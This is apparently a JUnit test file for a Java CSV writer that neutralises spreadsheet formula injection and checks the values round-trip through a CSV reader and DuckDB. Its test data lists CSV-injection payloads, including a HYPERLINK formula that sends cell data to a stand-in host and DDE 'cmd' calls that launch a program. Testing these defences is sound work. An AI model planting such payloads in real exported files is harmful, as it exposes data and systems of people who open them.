package io.tessera.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Output CSVs are quoted by the CSV library and text cells are neutralised against spreadsheet
 * formula injection (OWASP "CSV Injection"), reversibly, so hostile ids come back exactly.
 */
class CsvOutputTest {
  @TempDir Path tmp;

  /** Ids an attacker or a messy source can produce; every one must come back unchanged. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "line one\nline two",
          "quoted \"\"\" id",
          "comma, id",
          "'already quoted",
          "''",
          "'=1+1",
          "-3.5",
          "",
          " =leading space",
          "\u001b[31mred\u001b[0m",
          "한글-id");

  private static List<String> ids() {
    List<String> ids = new ArrayList<>(HOSTILE);
    SplittableRandom rnd = new SplittableRandom(13);
    while (ids.size() < 121) {
      ids.add("c" + ids.size() + "-" + Long.toHexString(rnd.nextLong()));
    }
    return ids;
  }

  @Test
  void hostileIdsShouldRoundTripThroughTheCsvLibraryAndDuckDb() throws IOException, SQLException {
    // case 8: an id with a quoted newline gave 122 rows for 121; formulas started cells as written
    Path file = tmp.resolve("customers.csv");
    List<String> ids = ids();
    try (CsvOutput out = CsvOutput.open(file, List.of("customer_id", "monetary", "reasons"))) {
      for (int i = 0; i < ids.size(); i++) {
        out.text(ids.get(i)).number(i % 2 == 0 ? "-3.5" : "12").text("why: " + i).endRow();
      }
    }
    List<List<String>> rows = new ArrayList<>();
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(file)) {
      reader.forEach(r -> rows.add(r.getFields()));
    }
    assertThat(rows).hasSize(122);
    assertThat(rows.get(0)).containsExactly("customer_id", "monetary", "reasons");
    for (int i = 0; i < ids.size(); i++) {
      List<String> row = rows.get(i + 1);
      assertThat(row.get(0)).matches(c -> c.isEmpty() || "=+-@\t\r".indexOf(c.charAt(0)) < 0);
      assertThat(CsvOutput.restore(row.get(0))).isEqualTo(ids.get(i));
      assertThat(row.get(1)).isEqualTo(i % 2 == 0 ? "-3.5" : "12");
    }
    try (Store store = Store.inMemory()) {
      String path = file.toString().replace("'", "''");
      assertThat(
              store.count(
                  "SELECT count(*) FROM read_csv('"
                      + path
                      + "', header = true, all_varchar = true)"))
          .isEqualTo(121);
      assertThat(
              store.count(
                  "SELECT count(*) FROM read_csv('"
                      + path
                      + "', header = true, all_varchar = true) WHERE "
                      + CsvOutput.restoreSql("customer_id")
                      + " = '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")'"))
          .isEqualTo(1);
    }
  }

  @Test
  void aNumberCellShouldTakeOnlyANumber() throws IOException {
    try (CsvOutput out = CsvOutput.open(tmp.resolve("x.csv"), List.of("n"))) {
      assertThatThrownBy(() -> out.number("=1+1"))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("=1+1");
      out.number("").endRow();
      out.number("-1.5E-7").endRow();
    }
  }

  @Test
  void neutralisingShouldPrefixExactlyTheOwaspLeadersAndTheApostrophe() {
    assertThat(CsvOutput.neutralise("=1")).isEqualTo("'=1");
    assertThat(CsvOutput.neutralise("+1")).isEqualTo("'+1");
    assertThat(CsvOutput.neutralise("-1")).isEqualTo("'-1");
    assertThat(CsvOutput.neutralise("@a")).isEqualTo("'@a");
    assertThat(CsvOutput.neutralise("\ta")).isEqualTo("'\ta");
    assertThat(CsvOutput.neutralise("\ra")).isEqualTo("'\ra");
    assertThat(CsvOutput.neutralise("'a")).isEqualTo("''a");
    assertThat(CsvOutput.neutralise("a=1")).isEqualTo("a=1");
    assertThat(CsvOutput.neutralise("")).isEmpty();
    assertThat(CsvOutput.restore("plain")).isEqualTo("plain");
  }
}
